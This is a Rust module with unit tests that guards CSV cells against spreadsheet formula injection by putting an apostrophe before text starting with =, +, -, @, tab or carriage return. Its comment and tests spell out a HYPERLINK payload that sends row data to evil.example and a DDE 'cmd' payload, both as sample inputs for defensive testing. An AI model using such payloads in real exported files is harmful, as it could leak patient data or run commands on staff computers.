//! Cells of the CSV files Frontdesk writes, safe to open in a spreadsheet.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (some
//! also a tab or a carriage return) as a formula. Text that came from a
//! person or another system (a patient's name, a visit id in an imported
//! file) could then run as one when staff open the file: a name typed as
//! `=HYPERLINK("https://evil.example/?"&A2, "Open")` becomes a link that
//! sends the row away (CSV injection). Every text cell goes through
//! [`text_cell`], which puts a `'` in front of such text, as OWASP
//! recommends; the spreadsheet then shows it as the text it was.
//!
//! Numbers and times are written as they are and never pass through here: a
//! writer knows which of its columns are text. A text cell that is a plain
//! number (`-12`, `+3.5`) is also left alone: a spreadsheet reads it as that
//! number, which runs nothing, and ids such as `-12` stay what they were.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as written to CSV: with a leading `'` when it would start a
/// formula, otherwise unchanged.
pub fn text_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(c) if FORMULA_START.contains(&c) && !is_plain_number(text) => {
            Cow::Owned(format!("'{text}"))
        }
        _ => Cow::Borrowed(text),
    }
}

/// `-12`, `+3.5`: an optional sign, digits, and at most one decimal point
/// between digits. Nothing else (no exponent, no `inf`).
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['-', '+']).unwrap_or(text);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_would_start_a_formula_is_neutralised() {
        let name = r#"=HYPERLINK("https://evil.example/?"&A2,"Open")"#;
        assert_eq!(text_cell(name), format!("'{name}"));
        for cell in [
            "+1+cmd|' /C calc'!A0",
            "-1+1",
            "-2e3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+",
            "-.5",
            "-inf",
        ] {
            assert_eq!(text_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_numbers_and_times_stay_as_they_are() {
        for cell in [
            "",
            "Ana",
            "O'Brien",
            "Ana = Bo",
            "w-0042",
            "dr-lee",
            "12",
            "-12",
            "+3.5",
            "0.25",
            "2026-03-05T09:41:00",
            "2026-03-05T09:41:00-06:00",
            "2026-03-05T15:41:00+00:00",
        ] {
            assert!(
                matches!(text_cell(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn a_neutralised_cell_survives_the_csv_writer_and_reader() {
        let name = r#"=HYPERLINK("https://evil.example/?"&A2,"Open")"#;
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record([
            text_cell("-12").as_ref(),
            &text_cell(name),
            "2026-03-05T09:41:00",
        ])
        .unwrap();
        let bytes = w.into_inner().unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let row = r.records().next().unwrap().unwrap();
        assert_eq!(&row[0], "-12");
        assert_eq!(row[1].strip_prefix('\''), Some(name));
        assert_eq!(&row[2], "2026-03-05T09:41:00");
    }
}
